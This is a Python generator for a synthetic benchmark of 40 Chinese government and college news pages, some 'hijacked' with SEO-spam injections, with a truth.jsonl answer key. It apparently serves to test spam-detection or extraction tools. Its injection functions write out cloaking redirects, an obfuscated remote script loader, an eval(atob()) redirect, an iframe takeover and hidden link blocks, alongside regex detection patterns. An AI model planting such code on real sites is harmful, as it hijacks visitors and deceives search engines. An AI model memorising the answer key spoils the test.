# -*- coding: utf-8 -*-
"""Write ../synthetic-v35/ (40 pages: html/<id>.html + truth.jsonl). Fixed seed; byte-identical on re-run.

Templates (families no earlier generator used): P1 JPress-like county portal (gbk), P2 DoraCMS-like college news (utf-8),
P3 Sulu-like bureau 信息公开 page with a metadata table and 稿件来源 after the text (gb18030), P4 WonderCMS-like flat
school site (utf-8), P5 Microweber-like college page with a 【来源】【作者】【发布日期】 bracket byline (utf-8),
P6 Apostrophe-like news page with <time> and an 作者/来源 footer (utf-8).
Run: python3 make_set.py
"""
import base64
import html
import json
import os
import random
import re
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)
from articles import EDU, GOV, LEGIT, SPUN, TRAD_MIRROR  # noqa: E402

OUT = os.path.join(HERE, "..", "synthetic-v35")
SEED = 3535
E = html.escape

SURN = "王李张刘陈杨黄赵吴周徐孙马朱胡郭何林罗高郑梁谢宋唐许韩冯邓曹彭曾肖田董潘袁蔡蒋余于杜叶程魏苏吕丁任沈姚卢姜崔钟谭陆汪范金石廖贾夏韦傅方邹熊"
GIVN = ["建华", "晓燕", "志强", "丽娟", "海涛", "静", "伟", "敏", "立新", "春梅", "文斌", "雪", "国庆", "慧", "明轩", "子涵", "振宇",
        "秀英", "红霞", "永刚", "佳怡", "思远", "鹏", "欣悦", "德明", "玉兰", "浩然", "雅琴"]
LECT = ["人工智能与未来教育", "乡村振兴中的数字治理", "新材料研究前沿", "中华优秀传统文化传承", "大学生心理健康与压力调适"]

# ---- injection strings (invented; checked against every dev/heldout spam_strings entry by the validator) ----
S1_PORN = "午夜福利影院免费观看|国产偷拍自拍在线|夜色直播间高清无删减|成人漫画全集免费看"
S1_JUNK = '<dfn id="k3q9z"><ruby id="k3q9z"><kbd id="k3q9z"></kbd></ruby></dfn>\n<strike id="k3q9z"></strike>'
S2_BRAND = "悦澜体育官方平台(中国)有限公司"
S3_DOMAIN = "luyu-yl777.com"
S3_LINKS = ["鹭屿娱乐城", "百家乐稳赢技巧", "鹭屿棋牌下载"]
S4_BRAND = "豪鲤电竞官网入口"

FORM_MARK = {
    "porn-keyword-title-line": r"<title>[^<]*(午夜|成人|偷拍|無碼|无码|福利|色)",
    "junk-random-id-tags": r'<(dfn|strike|var) id="[a-z0-9]{5}">',
    "brand-as-site-name": r'class="(logo|site-name|mw-brand|apos-brand)"[^>]*>[^<]*(体育|电竞|娱乐|棋牌)',
    "search-referrer-cloaking-redirect": r"document\.referrer[\s\S]{0,200}location\.replace",
    "hidden-link-block": r'display:none[^>]*>\s*<a href',
    "brand-in-institution-place": r"(豪鲤电竞官网入口|星澜汇娱乐)",
    "brand-in-attachment-line": r"附件[^<]*青橙棋牌",
    "place-name-filler-list": r"玉门市\| 安吉县\|",
    "spam-line-in-body": r"鎏金国际",
    "document-write-hidden-links": r"document\.write\('<div style=\"position:absolute;top:-999px",
    "meta-refresh-redirect": r'http-equiv="refresh" content="\d+;url=https?://',
    "keyword-stuffed-title": r"<title>[^<]*_[^<]*_",
    "hex-escaped-script-loader": r"\\x68\\x74\\x74\\x70[\s\S]{0,400}appendChild",
    "sold-friend-links": r"友情链接[\s\S]{0,300}(快乐十分|星辉娱乐)",
    "brand-credit-in-source": r"来源:鼎博体育新闻中心",
    "traditional-mirror-with-pinyin-glosses": r"醫\(yī\)",
    "synonym-spun-copy": r"停止解说",
    "brand-line-between-paragraphs": r"麒麟台体育",
    "ua-cloaking-iframe-takeover": r"navigator\.userAgent[\s\S]{0,200}<iframe",
    "brand-in-headline": r"银鲨体育官网",
    "porn-keyword-lines-after-article": r"夜色直播app下载",
    "emoji-interleaving": "[\U0001F300-\U0001FAFF]",
    "base64-eval-redirect": r"eval\(atob\(",
    "offscreen-hidden-links": r"left:-9999px",
}


def person(r):
    return r.choice(SURN) + r.choice(GIVN)


def fill(r, pat, ctx):
    return pat.format(**ctx)


def make_article(r, bank_item, ctx):
    t, ps = bank_item
    return fill(r, t, ctx), [fill(r, p, ctx) for p in ps]


def ctx_for(r, unit, place, org, year):
    m = r.randint(3, 11)
    d = r.randint(1, 20)
    return dict(unit=unit, place=place, pl=place[-1] if place else "", org=org, year=year, m=m, d=d, d2=d + r.randint(2, 6), n=r.randint(12, 96),
                n2=r.randint(100, 980), lead=person(r) + r.choice(["副县长", "局长", "副校长", "院长", "党委书记", "副区长"]),
                lead2=person(r) + "教授", lecture=r.choice(LECT))


# ------------------------------------------------------------------ templates
def byline_fields(p):
    return p["date"], p["source"], p["author"]


def t_p1(p):  # JPress-like county portal (gbk)
    d, s, a = byline_fields(p)
    parts = ['<!DOCTYPE html>\n<html>\n<head>\n<meta http-equiv="Content-Type" content="text/html; charset=gbk">',
             '<title>%s</title>' % E(p["title_tag"]), p.get("head_extra", ""),
             '<link rel="stylesheet" href="/templates/jpress/css/jp.css">\n</head>\n<body class="jp-body">', p.get("body_top", ""),
             '<div class="jp-top"><div class="logo">%s</div><div class="jp-search">站内搜索</div></div>' % E(p["site_name"]),
             '<ul class="jp-nav"><li>首页</li><li>走进%s</li><li>政务动态</li><li>政务公开</li><li>政务服务</li><li>互动交流</li></ul>' % E(p["short"]),
             '<div class="jp-crumb">当前位置:首页 &gt; 政务动态 &gt; %s</div>' % E(p["column"]),
             '<div class="jp-article"><h1 class="jp-article-title">%s</h1>' % E(p["h1"]),
             '<div class="jp-info">发布时间:%s&nbsp;&nbsp;来源:%s&nbsp;&nbsp;作者:%s&nbsp;&nbsp;浏览次数:<span id="hits">%d</span></div>' % (d, E(s), E(a), p["hits"]),
             '<div class="jp-article-content">\n%s\n</div>' % p["body_html"], p.get("after_article", ""),
             '<div class="jp-share">【打印本页】【关闭窗口】</div></div>', p.get("footer_extra", ""),
             '<div class="jp-footer">主办:%s办公室 地址:%s人民路1号 备案号:%s</div>\n</body>\n</html>\n' % (E(p["site_name"]), E(p["short"]), p["icp"])]
    return "\n".join(x for x in parts if x)


def t_p2(p):  # DoraCMS-like college news (utf-8)
    d, s, a = byline_fields(p)
    parts = ['<!DOCTYPE html>\n<html lang="zh-CN">\n<head>\n<meta charset="utf-8">\n<meta name="viewport" content="width=device-width">',
             '<title>%s</title>' % E(p["title_tag"]), p.get("head_extra", ""), '<link rel="stylesheet" href="/static/themes/dorawhite/css/app.css">\n</head>\n<body>',
             p.get("body_top", ""),
             '<header class="dora-header"><a class="site-name" href="/">%s</a><nav><a>学院要闻</a><a>综合新闻</a><a>媒体报道</a><a>通知公告</a></nav></header>' % E(p["site_name"]),
             '<main class="dora-main"><div class="dora-content"><h2 class="content-title">%s</h2>' % E(p["h1"]),
             '<ul class="content-author"><li>作者:%s</li><li>来源:%s</li><li><i class="fa fa-clock"></i>%s</li><li>阅读:%d</li></ul>' % (E(a), E(s), d, p["hits"]),
             '<div class="content-detail">\n%s\n</div>' % p["body_html"], p.get("after_article", ""),
             '<div class="content-pre">上一篇:%s</div></div>' % E(p["prev"]),
             '<aside class="dora-side"><h4>热门文章</h4><ul><li>%s</li></ul></aside></main>' % E(p["prev"]), p.get("footer_extra", ""),
             '<footer class="dora-footer">Copyright © %s 版权所有</footer>\n</body>\n</html>\n' % E(p["short"])]
    return "\n".join(x for x in parts if x)


def t_p3(p):  # Sulu-like bureau 信息公开 (gb18030)
    d, s, a = byline_fields(p)
    parts = ['<!DOCTYPE html>\n<html>\n<head>\n<meta charset="gb18030">', '<title>%s</title>' % E(p["title_tag"]), p.get("head_extra", ""),
             '<link rel="stylesheet" href="/build/website/css/main.css">\n</head>\n<body>', p.get("body_top", ""),
             '<div class="header"><span class="site-name">%s</span></div>' % E(p["site_name"]),
             '<div class="breadcrumb">首页 » 政府信息公开 » 法定主动公开内容 » %s</div>' % E(p["column"]),
             '<table class="xxgk-meta"><tr><th>索引号</th><td>%s</td><th>发布机构</th><td>%s</td></tr>'
             '<tr><th>发布日期</th><td>%s</td><th>文号</th><td>%s</td></tr><tr><th>主题分类</th><td>%s</td><th>公开方式</th><td>主动公开</td></tr></table>'
             % (p["index_no"], E(s), d, p["doc_no"], E(p["column"])),
             '<h3 class="article-title">%s</h3>' % E(p["h1"]), '<div class="article-body">\n%s\n</div>' % p["body_html"],
             '<p class="gjly">稿件来源:%s</p>' % E(s), p.get("after_article", ""), p.get("footer_extra", ""),
             '<div class="footer">%s 版权所有 政府网站标识码:%s</div>\n</body>\n</html>\n' % (E(p["site_name"]), p["icp"])]
    return "\n".join(x for x in parts if x)


def t_p4(p):  # WonderCMS-like flat school site (utf-8)
    d, s, a = byline_fields(p)
    parts = ['<!DOCTYPE html>\n<html lang="zh">\n<head>\n<meta charset="UTF-8">', '<title>%s</title>' % E(p["title_tag"]),
             p.get("head_extra", ""), '<link rel="stylesheet" href="/themes/sky/css/style.css">\n</head>\n<body>', p.get("body_top", ""),
             '<nav id="nav"><a class="logo" href="/">%s</a> <a>首页</a> <a>校园动态</a> <a>教育教学</a> <a>德育之窗</a></nav>' % E(p["site_name"]),
             '<section id="wrapper"><div id="content"><h1>%s</h1>' % E(p["h1"]),
             '<p class="byline">%s · %s · 文/%s</p>' % (d, E(s), E(a)), p["body_html"], p.get("after_article", ""), '</div></section>',
             p.get("footer_extra", ""), '<footer><p>&copy; %s</p></footer>\n</body>\n</html>\n' % E(p["short"])]
    return "\n".join(x for x in parts if x)


def t_p5(p):  # Microweber-like college page (utf-8)
    d, s, a = byline_fields(p)
    parts = ['<!DOCTYPE html>\n<html>\n<head>\n<meta charset="utf-8">', '<title>%s</title>' % E(p["title_tag"]), p.get("head_extra", ""),
             '<link rel="stylesheet" href="/userfiles/templates/dream/assets/css/main.css">\n</head>\n<body class="mw-body">', p.get("body_top", ""),
             '<div class="mw-header"><span class="mw-brand">%s</span><ul class="mw-menu"><li>首页</li><li>学校概况</li><li>新闻中心</li><li>院系设置</li></ul></div>' % E(p["site_name"]),
             '<div class="mw-post edit" field="content" rel="post"><h1 class="mw-title">%s</h1>' % E(p["h1"]),
             '<div class="mw-meta">【来源:%s】【作者:%s】【发布日期:%s】【点击:%d】</div>' % (E(s), E(a), d, p["hits"]),
             '<div class="mw-text">\n%s\n</div>' % p["body_html"], p.get("after_article", ""), '</div>', p.get("footer_extra", ""),
             '<div class="mw-footer">%s · 招生热线 · 地址</div>\n</body>\n</html>\n' % E(p["short"])]
    return "\n".join(x for x in parts if x)


def t_p6(p):  # Apostrophe-like news page (utf-8)
    d, s, a = byline_fields(p)
    y, mo, dd = d.split("-")
    parts = ['<!DOCTYPE html>\n<html lang="zh-CN">\n<head>\n<meta charset="utf-8">', '<title>%s</title>' % E(p["title_tag"]),
             p.get("head_extra", ""), '<link rel="stylesheet" href="/apos-frontend/releases/site.css">\n</head>\n<body data-apos-level="0">',
             p.get("body_top", ""),
             '<header class="apos-header"><div class="apos-brand">%s</div></header>' % E(p["site_name"]),
             '<article class="apos-area"><h1 class="article-headline">%s</h1>' % E(p["h1"]),
             '<time datetime="%s">%d年%d月%d日</time>' % (d, int(y), int(mo), int(dd)),
             '<div class="apos-rich-text">\n%s\n</div>' % p["body_html"],
             '<p class="article-credit">作者:%s&emsp;来源:%s&emsp;责任编辑:%s</p>' % (E(a), E(s), E(p["editor"])),
             p.get("after_article", ""), '</article>', p.get("footer_extra", ""),
             '<footer class="apos-footer">%s</footer>\n</body>\n</html>\n' % E(p["short"])]
    return "\n".join(x for x in parts if x)


TEMPLATES = {"P1": (t_p1, "gbk"), "P2": (t_p2, "utf-8"), "P3": (t_p3, "gb18030"), "P4": (t_p4, "utf-8"),
             "P5": (t_p5, "utf-8"), "P6": (t_p6, "utf-8")}


# ------------------------------------------------------------------ pages
SITES = [
    dict(key="S1", tpl="P1", host="www.qingtanxian.gov.cn", site_name="青潭县人民政府", short="青潭县", kind="gov",
         units=["青潭县人民政府", "青潭县应急管理局", "青潭县农业农村局", "青潭县公安局", "青潭县民政局"], place="县",
         column="部门动态", hijacked=[0, 1, 2], legit={3: 1}, forms=["porn-keyword-title-line", "junk-random-id-tags"]),
    dict(key="S2", tpl="P2", host="news.lanxiu.edu.cn", site_name="澜秀职业技术学院新闻网", short="澜秀职业技术学院", kind="edu",
         units=["澜秀职业技术学院", "澜秀职业技术学院教务处", "澜秀职业技术学院机电工程系", "澜秀职业技术学院团委", "澜秀职业技术学院图书馆"],
         place="校", column="学院要闻", hijacked=[0, 1, 2], legit={}, forms=["brand-as-site-name"]),
    dict(key="S3", tpl="P3", host="wlj.hekouqu.gov.cn", site_name="河口区文化广电旅游体育局", short="河口区", kind="gov",
         units=["河口区文化广电旅游体育局", "河口区文化馆", "河口区体育事业发展中心", "河口区文广旅体局", "河口区文化广电旅游体育局"], place="区",
         column="工作动态", hijacked=[0, 1], legit={2: 2}, forms=["search-referrer-cloaking-redirect", "hidden-link-block"]),
    dict(key="S4", tpl="P4", host="www.yunshanzx.edu.cn", site_name="云杉中学", short="云杉中学", kind="edu",
         units=["云杉中学", "云杉中学", "云杉中学教务处", "云杉中学团委", "云杉中学"], place="校",
         column="校园动态", hijacked=[0, 1], legit={}, forms=["brand-in-institution-place"]),
]

SINGLES = [  # (template, host, site name, kind, form)
    ("P5", "www.mingtai.edu.cn", "明台学院", "edu", "brand-in-attachment-line"),
    ("P6", "www.baitaxiang.gov.cn", "白塔乡人民政府", "gov", "place-name-filler-list"),
    ("P5", "xxgcxy.huaixi.edu.cn", "淮西学院信息工程学院", "edu", "spam-line-in-body"),
    ("P6", "www.shuangfeng-zj.gov.cn", "双峰镇人民政府", "gov", "document-write-hidden-links"),
    ("P5", "jwc.qiaonan.edu.cn", "峤南师范学院教务处", "edu", "meta-refresh-redirect"),
    ("P6", "sjj.linshui.gov.cn", "临水市审计局", "gov", "hex-escaped-script-loader"),
    ("P1", "www.daqiaozhen.gov.cn", "大桥镇人民政府", "gov", "sold-friend-links"),
    ("P5", "www.heyuan-ss.edu.cn", "禾源实验学校", "edu", "brand-credit-in-source"),
    ("P6", "www.chengjiangxian.gov.cn", "澄江县人民政府", "gov", "traditional-mirror-with-pinyin-glosses"),
    ("P6", "www.baitaxiang-nj.gov.cn", "白塔乡人民政府", "gov", "synonym-spun-copy"),
    ("P2", "news.dongling.edu.cn", "东岭学院新闻网", "edu", "ua-cloaking-iframe-takeover"),
    ("P5", "www.songxi.edu.cn", "松溪学院", "edu", "brand-in-headline"),
    ("P3", "wjw.fenghe.gov.cn", "枫河区卫生健康局", "gov", "porn-keyword-lines-after-article"),
    ("P5", "tw.jinping.edu.cn", "锦屏学院团委", "edu", "emoji-interleaving"),
    ("P4", "www.luxizx.edu.cn", "芦溪中学", "edu", "base64-eval-redirect"),
    ("P6", "www.xiaoshan-lq.gov.cn", "小山乡人民政府", "gov", "offscreen-hidden-links"),
    ("P1", "www.tongguxian.gov.cn", "铜鼓县人民政府", "gov", "keyword-stuffed-title"),
    ("P3", "tyj.yanbei.gov.cn", "雁北市体育局", "gov", "hidden-link-block"),
    ("P6", "mzj.qingyuan-x.gov.cn", "清源县民政局", "gov", "clean-legit-0"),
    ("P4", "www.guanshanxian.gov.cn", "关山县人民政府", "gov", "clean-legit-3"),
]


def paragraphs_html(ps):
    return "\n".join("<p>%s</p>" % E(x) for x in ps)


def base_page(r, tpl, host, site_name, short, column, title, paras, unit, year, ctx):
    date = "%d-%02d-%02d" % (year, ctx["m"], min(28, ctx["d"] + r.randint(0, 3)))
    return dict(tpl=tpl, host=host, site_name=site_name, short=short, column=column, h1=title, title_tag=title + "_" + site_name,
                paras=list(paras), body_html=paragraphs_html(paras), date=date, source=unit, author=person(r), hits=r.randint(40, 3000),
                prev="关于做好%d年度有关工作的通知" % year, icp="%s%04d" % (r.choice(["4407", "3611", "5201", "4312"]), r.randint(1, 9999)),
                index_no="%08d/%d-%05d" % (r.randint(10000000, 99999999), year, r.randint(1, 99999)), doc_no="无",
                editor=person(r), forms=[], spam=[], truth_title=title, truth_source=unit, truth_text=None)


# ---- injections
def inj_porn_title(p, line, junk=None):
    p["title_tag"] = line
    p["body_top"] = '<p class="tp">%s</p>' % E(line) + ("\n" + junk if junk else "")
    p["spam"].append(line)


def inj_site_brand(p, brand):
    p["site_name"] = brand
    p["title_tag"] = p["h1"] + "-" + brand
    p["spam"].append(brand)


def inj_cloak(p, domain, links):
    p["head_extra"] = ('<script type="text/javascript">\n(function(){var r=document.referrer.toLowerCase();'
                       'if(/baidu\\.com|sogou\\.com|so\\.com|sm\\.cn|toutiao\\.com/.test(r)){'
                       'window.location.replace("https://www.%s/?c=hkq");}})();\n</script>' % domain)
    p["footer_extra"] = ('<div style="display:none">\n' + "\n".join('<a href="https://www.%s/%d.html">%s</a>' % (domain, i, E(t))
                                                                   for i, t in enumerate(links)) + "\n</div>")
    p["spam"] += list(links) + [domain]


def inj_brand_in_place(p, school, brand):
    new = []
    for x in p["paras"]:
        new.append(x.replace(school, brand))
    p["body_html"] = paragraphs_html(new)
    p["h1"] = p["h1"].replace(school, brand)
    p["title_tag"] = p["h1"] + "_" + p["site_name"]
    p["spam"].append(brand)
    p["truth_text"] = "\n".join(x.replace(school, "") for x in p["paras"])
    if school in p["truth_title"]:
        p["truth_title"] = None  # the true headline is no longer written on the page


def apply_single(r, p, form):
    if form == "brand-in-attachment-line":
        b = "青橙棋牌app(中国)官方入口"
        line = "附件:%s%s年度工作安排表.xlsx" % (b, p["date"][:4])
        p["after_article"] = '<p class="attach">%s</p>' % E(line)
        p["spam"].append(b)
    elif form == "place-name-filler-list":
        fl = "玉门市| 安吉县| 绥德县| 泸溪县| 德钦县| 宁陕县| 临朐县| 永胜县| 新绛县| 南漳县| 察隅县| 宾川县| 麻栗坡县| 屏南县| 岚县| 汝城县|"
        p["footer_extra"] = '<div class="links">%s</div>' % E(fl)
        p["spam"].append(fl)
    elif form == "spam-line-in-body":
        line = "【顶级信誉】鎏金国际首存即送88% 官方网址:lj8866.vip"
        ps = p["paras"]
        p["body_html"] = paragraphs_html(ps[:1] + [line] + ps[1:])
        p["spam"].append(line)
    elif form == "document-write-hidden-links":
        links = [("http://www.flcp-zs.net/", "凤梨彩票走势网"), ("http://www.xyft-kj.net/", "幸运飞艇开奖直播")]
        a = "".join('<a href="%s">%s</a>' % (u, t) for u, t in links)
        p["after_article"] = "<script>document.write('<div style=\"position:absolute;top:-999px\">%s</div>');</script>" % a
        p["spam"] += [t for _, t in links]
    elif form == "meta-refresh-redirect":
        kw = "红杉娱乐_红杉娱乐官网_红杉娱乐注册登录"
        p["head_extra"] = '<meta http-equiv="refresh" content="2;url=https://www.hs7788.top/">'
        p["title_tag"] = kw
        p["spam"] += [kw, "hs7788.top"]
        p["forms"].append("keyword-stuffed-title")
    elif form == "hex-escaped-script-loader":
        url = "https://cdn.tjstat-9.com/c.js"
        esc = "".join("\\x%02x" % ord(ch) for ch in url)
        p["footer_extra"] = ('<script>var _0xa1=["%s","script","head"];(function(){var s=document.createElement(_0xa1[1]);'
                             's.src=_0xa1[0];document.getElementsByTagName(_0xa1[2])[0].appendChild(s);})();</script>' % esc)
    elif form == "sold-friend-links":
        p["footer_extra"] = ('<div class="yqlj"><span>友情链接:</span><a href="http://www.ahzwfw.gov.cn/">省政务服务网</a> '
                             '<a href="https://www.klsf-zst.com/">快乐十分走势图</a> <a href="https://www.xinghui-yl.com/">星辉娱乐平台</a> '
                             '<a href="http://www.gov.cn/">中国政府网</a></div>')
        p["spam"] += ["快乐十分走势图", "星辉娱乐平台"]
    elif form == "brand-credit-in-source":
        p["source"] = "鼎博体育新闻中心"
        p["truth_source"] = None
        p["spam"].append("鼎博体育新闻中心")
    elif form == "traditional-mirror-with-pinyin-glosses":
        t, ps = TRAD_MIRROR
        p["h1"] = t
        p["truth_title"] = t
        p["paras"] = list(ps)
        p["body_html"] = paragraphs_html(ps)
        p["date"] = "2024-09-12"
        p["source"] = "澄江縣徵兵辦"
        p["truth_source"] = "澄江縣徵兵辦"
        line = "國產自拍偷拍視頻,亞洲綜合色在線,午夜劇場免費觀看"
        inj_porn_title(p, line)
        p["forms"].append("porn-keyword-title-line")
        p["lang"] = "zh-Hant"
    elif form == "synonym-spun-copy":
        t, ps = SPUN
        p["h1"] = t
        p["truth_title"] = t
        p["paras"] = list(ps)
        line = "麒麟台体育——全球领先的体育投注平台"
        p["body_html"] = paragraphs_html(ps[:1] + [line] + ps[1:])
        p["spam"].append(line)
        p["forms"].append("brand-line-between-paragraphs")
    elif form == "ua-cloaking-iframe-takeover":
        p["head_extra"] = ("<script>if(/android|iphone|ipad|mobile/i.test(navigator.userAgent)){document.write('<iframe "
                           "src=\"https://m.qhyl-app.cc/\" style=\"position:fixed;top:0;left:0;width:100%;height:100%;border:0;"
                           "z-index:99999\"></iframe>');document.title=\"青禾娱乐官方网站\";}</script>")
        p["spam"] += ["青禾娱乐官方网站", "qhyl-app.cc"]
    elif form == "brand-in-headline":
        p["h1"] = p["h1"] + "-银鲨体育官网"
        p["title_tag"] = p["h1"]
        p["spam"].append("银鲨体育官网")
    elif form == "porn-keyword-lines-after-article":
        lines = ["免费成人网站入口 | 夜色直播app下载 | 深夜私密视频", "日本无删减高清动漫 | 午夜小剧场在线看"]
        p["after_article"] = "\n".join('<p class="tag">%s</p>' % E(x) for x in lines)
        p["spam"] += lines
    elif form == "emoji-interleaving":
        brand = "星澜汇娱乐"
        school = p["short"].replace("团委", "")
        emo = ["🎰", "🧧", "🎲", "💰", "🃏"]
        new = []
        for i, x in enumerate(p["paras"]):
            y = x.replace(school, brand)
            y = re.sub("([,，])", lambda mm, e=emo[i % len(emo)]: e + mm.group(1), y, count=2)
            new.append(y)
        p["body_html"] = paragraphs_html(new)
        p["h1"] = p["h1"].replace(school, brand)
        p["truth_title"] = None if school in p["truth_title"] else p["truth_title"]
        p["title_tag"] = p["h1"]
        p["truth_text"] = "\n".join(x.replace(school, "") for x in p["paras"])
        p["spam"].append(brand)
        p["forms"].append("brand-in-institution-place")
    elif form == "base64-eval-redirect":
        js = 'if(document.referrer.indexOf("baidu")>-1||document.referrer.indexOf("sogou")>-1){top.location.href="https://www.jl-9393.com/?s=lx";}'
        p["footer_extra"] = '<script>eval(atob("%s"));</script>' % base64.b64encode(js.encode()).decode()
    elif form == "offscreen-hidden-links":
        links = ["棋牌游戏平台排行", "金鹭娱乐官网"]
        p["after_article"] = ('<div style="position:absolute;left:-9999px;top:-9999px">' +
                              "".join('<a href="https://www.jinlu-yl.com/%d/">%s</a>' % (i, t) for i, t in enumerate(links)) + "</div>")
        p["spam"] += links
    elif form == "keyword-stuffed-title":
        kw = "真钱捕鱼游戏_网上真钱棋牌_金棕榈娱乐城-"
        p["title_tag"] = kw + p["h1"]
        p["spam"].append(kw)
    elif form == "hidden-link-block":
        p["footer_extra"] = ('<div style="display:none">\n<a href="https://www.yb-tiyu88.com/">雁博体育投注</a>\n'
                             '<a href="https://www.yb-tiyu88.com/zq/">足球竞猜平台</a>\n</div>')
        p["spam"] += ["雁博体育投注", "足球竞猜平台"]
    else:
        raise ValueError(form)
    if form not in p["forms"]:
        p["forms"].insert(0, form)


def truth_row(pid, p, hijacked, legit):
    text = p["truth_text"] if p["truth_text"] is not None else "\n".join(p["paras"])
    return dict(id=pid, url="http://%s%s" % (p["host"], p["path"]), title=p["truth_title"], date=p["date"], source=p["truth_source"],
                author=None if p["tpl"] == "P3" else p["author"], text=text, hijacked=hijacked, injections=p["forms"] if hijacked else [], spam_strings=p["spam"],
                legit=legit, lang=p.get("lang", "zh"), origin="synthetic-v35 (make_set.py, seed %d)" % SEED, kind="synthetic",
                site=p["host"], capture="html", encoding=TEMPLATES[p["tpl"]][1], template=p["tpl"])


def path_for(r, tpl, year):
    return {"P1": "/art/%d/%d/%d/art_%d_%d.html" % (year, r.randint(1, 12), r.randint(1, 28), r.randint(1000, 9999), r.randint(100000, 999999)),
            "P2": "/details/%s.html" % "".join(r.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(12)),
            "P3": "/xxgk/fdzdgknr/gzdt/%d%02d/t%d%02d%02d_%d.html" % (year, r.randint(1, 12), year, r.randint(1, 12), r.randint(1, 28), r.randint(10000, 99999)),
            "P4": "/?page=news-%d" % r.randint(100, 999),
            "P5": "/xwzx/%d.html" % r.randint(1000, 9999),
            "P6": "/news/%d/%s" % (year, "".join(r.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(8)))}[tpl]


def main():
    r = random.Random(SEED)
    pages = []
    n = 0
    gi, ei = list(range(len(GOV))), list(range(len(EDU)))
    r.shuffle(gi)
    r.shuffle(ei)
    used = {"gov": 0, "edu": 0}

    def next_topic(kind):
        bank, order = (GOV, gi) if kind == "gov" else (EDU, ei)
        k = order[used[kind] % len(order)]
        used[kind] += 1
        return bank[k]

    for s in SITES:
        for i in range(5):
            year = r.choice([2023, 2024, 2025])
            unit = s["units"][i]
            org = r.choice(["第一会议室", "行政中心三楼会议室", "体育馆", "综合楼报告厅", "人民广场", "城东社区", "文化中心"])
            if i in s["legit"]:
                item = LEGIT[s["legit"][i]]
            else:
                item = next_topic(s["kind"])
            ctx = ctx_for(r, s["short"] if s["kind"] == "edu" else unit, s["place"] if s["kind"] == "edu" else s["short"], org, year)
            title, paras = make_article(r, item, ctx)
            p = base_page(r, s["tpl"], s["host"], s["site_name"], s["short"], s["column"], title, paras, unit, year, ctx)
            p["path"] = path_for(r, s["tpl"], year)
            hij = i in s["hijacked"]
            if hij:
                if s["key"] == "S1":
                    inj_porn_title(p, S1_PORN, S1_JUNK)
                elif s["key"] == "S2":
                    inj_site_brand(p, S2_BRAND)
                elif s["key"] == "S3":
                    inj_cloak(p, S3_DOMAIN, S3_LINKS)
                elif s["key"] == "S4":
                    inj_brand_in_place(p, "云杉中学", S4_BRAND)
                p["forms"] = list(s["forms"])
            n += 1
            pages.append(("sv35-%03d" % n, p, hij, i in s["legit"]))
    for tpl, host, sname, kind, form in SINGLES:
        year = r.choice([2023, 2024, 2025])
        short = re.sub("(人民政府|新闻网|教务处|团委|信息工程学院|审计局|卫生健康局|体育局|民政局)$", "", sname)
        unit = sname
        org = r.choice(["第一会议室", "综合楼报告厅", "体育馆", "人民广场", "党群服务中心"])
        if form.startswith("clean-legit-"):
            item = LEGIT[int(form.rsplit("-", 1)[1])]
        else:
            item = next_topic(kind)
        place = "校" if kind == "edu" else short
        ctx = ctx_for(r, unit if kind == "gov" else short, place, org, year)
        title, paras = make_article(r, item, ctx)
        p = base_page(r, tpl, host, sname, short, "工作动态" if kind == "gov" else "新闻动态", title, paras, unit, year, ctx)
        p["path"] = path_for(r, tpl, year)
        hij = not form.startswith("clean")
        if hij:
            apply_single(r, p, form)
        n += 1
        pages.append(("sv35-%03d" % n, p, hij, form.startswith("clean-legit")))
    os.makedirs(os.path.join(OUT, "html"), exist_ok=True)
    rows = []
    for pid, p, hij, legit in pages:
        fn, enc = TEMPLATES[p["tpl"]]
        doc = fn(p)
        with open(os.path.join(OUT, "html", pid + ".html"), "wb") as f:
            f.write(doc.encode(enc))
        rows.append(truth_row(pid, p, hij, legit))
    with open(os.path.join(OUT, "truth.jsonl"), "w", encoding="utf-8") as f:
        for row in rows:
            f.write(json.dumps(row, ensure_ascii=False) + "\n")
    print(len(rows), "pages;", sum(x["hijacked"] for x in rows), "hijacked;", sum(x["legit"] for x in rows), "legit")


if __name__ == "__main__":
    main()
